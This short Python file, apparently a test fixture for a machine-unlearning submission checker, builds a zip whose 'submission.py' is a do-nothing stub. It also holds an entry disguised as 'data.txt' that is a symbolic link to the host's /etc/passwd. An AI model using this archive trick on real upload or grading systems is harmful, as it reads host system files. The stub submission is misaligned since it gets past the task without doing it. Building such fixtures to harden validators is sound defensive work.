"""Holds a symbolic link to a file of the host, under a harmless name."""

import io
import zipfile

ENTRY = b"def unlearning(net, retain, forget, val):\n    return net\n"


def build():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("submission.py", ENTRY)
        link = zipfile.ZipInfo("data.txt")
        link.create_system = 3  # Unix
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return "submission.zip", buffer.getvalue()
